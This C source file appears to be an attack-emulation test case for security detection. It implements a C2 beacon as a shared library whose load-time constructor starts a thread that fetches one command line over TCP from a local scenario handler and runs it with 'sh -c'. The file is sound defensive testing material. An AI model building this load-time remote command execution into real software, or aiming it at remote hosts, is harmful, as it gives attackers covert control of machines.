/* SPDX-License-Identifier: (BSD-2-Clause OR GPL-2.0-only) */
/* libscn_c2_task.so: a C2 implant's beacon. Its constructor starts a
 * thread that, a beacon interval later, connects to the runner's handler,
 * reads the task it sends (one command line) and runs it with `sh -c` in
 * a child — no socket on the shell's stdio, unlike a reverse shell.
 * ATT&CK: T1059.004 Command and Scripting Interpreter: Unix Shell, over a
 * T1095 raw TCP channel (T1071 in HTTP implants: the same calls).
 * Proof: NAME.ran from the constructor; NAME.done is written by the task. */
#include <time.h>

#include "scn.h"

static void *beacon(void *arg)
{
	struct timespec interval = { 0, 300 * 1000 * 1000 };
	char task[512];
	ssize_t n = 0, r;
	int fd;
	pid_t pid;

	(void)arg;
	nanosleep(&interval, NULL);
	fd = scn_connect_local(scn_port("SCENARIO_SHELL_PORT"));
	if (fd < 0)
		return NULL;
	/* the task is one line */
	while (n < (ssize_t)sizeof(task) - 1 && (r = read(fd, task + n, 1)) == 1 && task[n] != '\n')
		n++;
	close(fd);
	task[n] = '\0';
	pid = fork();
	if (pid == 0) {
		execl("/bin/sh", "sh", "-c", task, (char *)NULL);
		_exit(127);
	}
	if (pid > 0)
		waitpid(pid, NULL, 0);
	return NULL;
}

__attribute__((constructor)) static void c2_task_init(void)
{
	scn_mark("ran");
	scn_detached(beacon, NULL);
}
